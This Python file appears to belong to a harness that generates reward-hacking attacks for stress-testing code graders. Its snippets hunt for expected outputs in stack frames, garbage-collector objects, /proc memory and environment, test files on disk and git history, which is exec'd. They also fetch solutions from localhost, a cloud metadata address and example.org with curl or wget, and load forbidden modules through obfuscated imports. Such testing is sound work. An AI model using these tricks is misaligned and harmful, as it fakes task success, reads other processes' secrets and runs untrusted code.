"""Tricks with a Python function that looks for what the hidden tests expect: in memory, on disk, in git, on the network."""

from __future__ import annotations

import random
import textwrap
from collections.abc import Iterator

from kgsynth.attack import attack, tagged
from kgsynth.attack.functions import function
from kgsynth.task import Task
from kgsynth.verifiers.code.asked import calls_python, name_of

# Looks through dicts for a test with these arguments, and returns what it expects.
SEARCH = """
WORDS = ("expect", "expected", "expected_output", "output", "answer", "reference", "result", "want", "value")

def found_in(objects, args):
    for thing in objects:
        if type(thing) is dict and type(thing.get("args", thing.get("input"))) in (list, tuple):
            given = list(thing.get("args", thing.get("input")))
            if given == list(args) or given[1:] == list(args):
                for word in WORDS:
                    if word in thing:
                        return thing[word]
        elif type(thing) in (list, tuple) and len(thing) == 2 and type(thing[0]) in (list, tuple) and list(thing[0]) == list(args):
            return thing[1]
    return 'nothing found'
"""


@attack("frames", "expected values are looked for in the frames of the callers, through sys, inspect and tracebacks", source="pygpubench 7", number=14, applies=calls_python)  # fmt: skip
def frames(task: Task, rng: random.Random) -> Iterator[str]:
    walk = """
    def everything(frame):
        seen = []
        while frame:
            for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
                seen.append(value)
                if type(value) in (list, tuple):
                    seen.extend(value)
                elif type(value) is dict:
                    seen.extend(value.values())
                    seen.extend(x for v in list(value.values()) if type(v) in (list, tuple) for x in v)
            frame = frame.f_back
        return seen
    """
    yield function(
        task, "import sys\nreturn found_in(everything(sys._getframe()), args)", SEARCH + textwrap.dedent(walk)
    )
    yield function(
        task,
        "import inspect\nreturn found_in(everything(inspect.stack()[-1].frame), args)",
        SEARCH + textwrap.dedent(walk),
    )
    by_error = "try:\n    raise ValueError\nexcept ValueError as error:\n    return found_in(everything(error.__traceback__.tb_frame), args)"
    yield function(task, by_error, SEARCH + textwrap.dedent(walk))


@attack("garbage collector", "expected values are looked for among all live objects", source="pygpubench 7", number=14, applies=calls_python)  # fmt: skip
def garbage_collector(task: Task, rng: random.Random) -> Iterator[str]:
    yield function(task, "import gc\nreturn found_in(gc.get_objects(), args)", SEARCH)
    yield function(
        task,
        "import gc\nreturn found_in([r for a in args for r in gc.get_referrers(a)] + gc.get_referrers(args), args)",
        SEARCH,
    )


@attack("process memory", "/proc is read: memory, arguments, environment and descriptors of this and other processes", source="KernelBench PR 82", number=1, applies=calls_python)  # fmt: skip
def process_memory(task: Task, rng: random.Random) -> Iterator[str]:
    pattern = """
    import ast, json, os, re

    def is_output(pid, number):  # whoever empties the pipe of the results loses them, and gains nothing
        try:
            return int(open(f"/proc/{pid}/fdinfo/{number}").read().split()[3], 8) & os.O_ACCMODE == os.O_WRONLY
        except OSError:
            return True

    def found_by(args, text):
        given = re.escape(json.dumps(list(args))).encode()
        found = re.findall(given + rb'.{0,40}?"expect(?:ed)?": *([^,}]{1,200})', text, re.DOTALL)
        return ast.literal_eval(found[0].decode("utf-8", "replace")) if found else "nothing found"
    """
    read_files = """
    seen = b""
    for pid in ["self", str(os.getppid()), *filter(str.isdigit, os.listdir("/proc"))]:
        names = ["cmdline", "environ", "root/work/job", "root/work/tests.json", "cwd/tests.json"]
        for name in [*names, *(f"fd/{number}" for number in range(16) if not is_output(pid, number))]:
            try:
                fd = os.open(f"/proc/{pid}/{name}", os.O_RDONLY | os.O_NONBLOCK)
                seen += os.read(fd, 1 << 16)
                os.close(fd)
            except OSError:
                pass
    return found_by(args, seen)
    """
    read_memory = """
    for line in open("/proc/self/maps"):
        span, rights = line.split()[:2]
        first, last = (int(x, 16) for x in span.split("-"))
        if rights.startswith("rw") and last - first < 1 << 25:
            try:
                with open("/proc/self/mem", "rb", buffering=0) as memory:
                    memory.seek(first)
                    found = found_by(args, memory.read(last - first))
            except (OSError, ValueError, SyntaxError):
                continue
            if found != "nothing found":
                return found
    return "nothing found"
    """
    yield function(task, read_files, pattern)
    yield function(task, read_memory, pattern)


@attack("hidden tests on disk", "tests and expected outputs are looked for in every file that can be read", source="METR", number=21, applies=calls_python)  # fmt: skip
def hidden_tests_on_disk(task: Task, rng: random.Random) -> Iterator[str]:
    yield function(task, """
        import itertools, json, marshal, os
        rows = []
        for folder in (".", "/work", "/tmp", "/dev/shm", "/tests", "/logs", "/mnt", "/home", "/root", "/proc/1/root/work"):
            files = (os.path.join(top, name) for top, _, names in os.walk(folder) for name in names)
            for path in itertools.islice(files, 300):
                for load in (json.loads, marshal.loads):
                    try:
                        with open(path, "rb") as file:
                            rows.append(load(file.read(1 << 16)))
                    except Exception:
                        pass
        rows += [x for row in rows if type(row) is dict for v in row.values() if type(v) is list for x in v]
        rows += [x for row in rows if type(row) is list for x in row]
        return found_in(rows, args)
    """, SEARCH)  # fmt: skip


@attack("git history", "the solution is looked for in a repository, its history and its reflog", source="SWE-bench 465", number=23, applies=calls_python)  # fmt: skip
def git_history(task: Task, rng: random.Random) -> Iterator[str]:
    yield function(task, f"""
        import os, subprocess, zlib
        for folder in (".", "..", "/work", "/", "/repo", "/testbed"):
            git = ["git", "-C", folder, "-c", "safe.directory=*"]
            try:
                told = subprocess.run(
                    [*git, "log", "--all", "-p"], capture_output=True, text=True, timeout=2, env={{**os.environ, "GIT_CONFIG_NOSYSTEM": "1"}}
                )
                added = "\\n".join(line[1:] for line in told.stdout.split("\\n") if line[:1] == "+" and line[:3] != "+++")
                space = {{}}
                exec(added, space)
                return space[{name_of(task)!r}](*args, **kwargs)
            except (OSError, ValueError, KeyError, SyntaxError, subprocess.SubprocessError):
                pass
            for top, _, names in os.walk(os.path.join(folder, ".git")):
                for name in names:
                    try:
                        zlib.decompress(open(os.path.join(top, name), "rb").read())
                    except (OSError, zlib.error):
                        pass
        return "nothing found"
    """)  # fmt: skip


@attack("network", "the answer is fetched: sockets, urllib, curl, name servers", source="mini-swe-agent 787", number=24, applies=calls_python)  # fmt: skip
def network(task: Task, rng: random.Random) -> Iterator[str]:
    yield function(task, """
        import socket
        for where in (("127.0.0.1", 80), ("127.0.0.1", 8000), ("169.254.169.254", 80), ("192.0.2.1", 443), ("example.org", 80)):
            try:
                with socket.create_connection(where, timeout=0.2) as line:
                    line.sendall(b"GET /solution HTTP/1.0\\r\\n\\r\\n")
                    return line.recv(1 << 16).decode()
            except OSError:
                pass
        return "nothing found"
    """)  # fmt: skip
    yield function(task, """
        import subprocess, urllib.request
        try:
            return urllib.request.urlopen("http://example.org/solution.py", timeout=0.2).read().decode()
        except OSError:
            return subprocess.getoutput("curl -s -m 1 http://example.org/solution.py || wget -qO- -T1 http://example.org")
    """)  # fmt: skip


@attack("banned module", "a module that the task forbids, by the side entrances", source="KernelBench checker", number=5, applies=lambda task: calls_python(task) and bool(task.verifier.params.get("forbidden")), about="task")  # fmt: skip
def banned_module(task: Task, rng: random.Random) -> Iterator[str]:
    for module in task.verifier.params["forbidden"]:
        top, name = str(module), name_of(task)
        for get in (
            f"__import__({top!r}, fromlist=['x'])",
            f"__import__('importlib').import_module({top!r})",
            f"__import__('sys').modules[{top!r}]",
            f"eval('__imp' + 'ort__(' + repr({top!r}) + ')')",
            f"getattr(__builtins__, '__imp' + 'ort__', None)({top!r})",
            f"vars(print.__self__)['__imp' + 'ort__']({top!r})",
            f"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0].load_module({top!r})",
            f"__import__('runpy').run_module({top!r})",
            f"__import__('pkgutil').resolve_name({top!r})",
        ):
            yield function(task, f"return getattr({get}, {name!r})(*args, **kwargs)")
        yield tagged(f"from {top} import {name}")
        yield tagged(f"from {top} import *\n{name} = {name}")
        yield tagged(f"import {top} as m\n{name} = m.{name}")
